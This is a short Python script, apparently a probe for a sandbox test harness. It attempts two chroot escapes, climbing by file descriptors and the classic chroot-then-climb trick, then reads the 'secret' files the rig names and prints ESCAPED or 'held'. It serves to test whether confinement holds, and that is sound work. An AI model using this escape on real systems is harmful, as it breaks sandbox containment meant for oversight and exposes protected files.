# The classic way out of a chroot: chroot again below an open directory, then climb; and climbing by descriptors.
import json, os, sys
rig = json.load(sys.stdin)
got = []
def look():
    for path in rig["secrets"]:
        for name in (path, path.lstrip("/")):
            try:
                got.append(open(name).read())
            except OSError:
                pass
try:
    top = os.open("/", os.O_RDONLY)
    for _ in range(30):
        top = os.open("..", os.O_RDONLY | os.O_PATH, dir_fd=top)
    os.fchdir(top)
    look()
except OSError:
    pass
try:
    os.mkdir("jail")
    here = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(here)
    for _ in range(60):
        os.chdir("..")
    os.chroot(".")
    look()
except OSError:
    pass
print("ESCAPED", *got) if got else print("held")
